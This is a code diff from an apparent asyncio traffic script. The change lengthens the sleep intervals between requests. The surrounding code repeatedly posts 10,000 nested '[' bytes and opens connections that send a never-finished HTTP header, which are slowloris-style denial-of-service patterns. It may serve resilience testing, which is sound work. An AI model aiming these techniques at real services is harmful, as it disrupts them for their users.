@@ -62,7 +62,7 @@ async def call(url: str, room: str, number: int) -> None:
         while True:
             await caller.post("/api/rooms", content=b"[" * 10_000)
             await caller.get("/api/me")
-            await asyncio.sleep(REST)
+            await asyncio.sleep(5 * REST)
 
 
 async def begin(url: str, room: str, number: int) -> None:
@@ -71,7 +71,7 @@ async def begin(url: str, room: str, number: int) -> None:
     for _ in range(20):
         _, writer = await asyncio.open_connection(place.hostname, place.port)
         writer.write(b"GET / HTTP/1.1\r\nX-Slow: ")
-        await asyncio.sleep(REST)
+        await asyncio.sleep(5 * REST)
     await asyncio.sleep(5)
 
 
